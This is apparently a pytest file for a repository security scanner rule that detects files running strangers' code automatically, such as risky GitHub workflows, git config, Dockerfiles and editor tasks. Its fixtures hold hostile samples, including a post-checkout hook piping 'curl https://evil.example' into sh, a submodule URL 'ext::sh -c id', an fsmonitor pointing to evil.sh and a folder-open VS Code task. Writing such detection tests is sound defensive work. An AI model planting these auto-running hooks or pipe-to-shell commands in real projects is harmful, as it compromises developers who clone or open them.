"""SEC211: workflows, git settings, images and editors that run the code of strangers."""

from __future__ import annotations

import pytest
from tests.make.revisions import document, judged, revision

from assay.finding import Severity

_CHECKOUT = "    - uses: actions/checkout@v4\n"
_THEIRS = "      with:\n        ref: ${{ github.event.pull_request.head.sha }}\n"


def workflow(on, steps):
    return f"on: {on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{steps}".encode()


FAILING = revision({".github/workflows/a.yml": workflow("pull_request_target", _CHECKOUT + _THEIRS)})
PASSING = revision(
    {
        ".github/workflows/a.yml": workflow("pull_request", _CHECKOUT + _THEIRS),
        ".github/workflows/b.yml": workflow("[push]", _CHECKOUT + "    - run: pytest ${{ github.sha }}\n"),
        ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n# filter=x\n",
        ".gitmodules": b'[submodule "a"]\n\tpath = a\n\turl = https://github.com/a/b\n',
        "Dockerfile": b"FROM python:3.11\nRUN pip install torch && curl -O https://a.example/x.bin\n",
    }
)


@pytest.mark.parametrize(
    ("path", "content", "severity"),
    [
        (
            ".github/workflows/a.yaml",
            workflow("issues", "    - run: echo ${{ github.event.issue.title }}\n"),
            Severity.HIGH,
        ),
        (".github/workflows/a.yml", workflow("{workflow_run: {}}", _CHECKOUT + _THEIRS), Severity.HIGH),
        (".gitattributes", b"*.py filter=evil\n", Severity.MEDIUM),
        (".gitmodules", b'[submodule "a"]\n\tpath = a\n\turl = ext::sh -c id\n', Severity.HIGH),
        (".gitconfig", b"[core]\n\tfsmonitor = ./evil.sh\n", Severity.HIGH),
        ("hooks/post-checkout", b"#!/bin/sh\ncurl https://evil.example | sh\n", Severity.HIGH),
        ("Dockerfile", b"FROM x\nRUN curl -s https://evil.example/i.sh | \\\n  bash\n", Severity.MEDIUM),
        ("docker/Dockerfile.gpu", b"RUN curl -LsSf https://astral.sh/uv/install.sh | sh\n", Severity.LOW),
        (
            ".vscode/tasks.json",
            document(tasks=[{"command": "id", "runOptions": {"runOn": "folderOpen"}}]),
            Severity.HIGH,
        ),
    ],
)
def test_what_runs_on_its_own(path, content, severity):
    assert [item.severity for item in judged("SEC211", revision({path: content}))] == [severity]
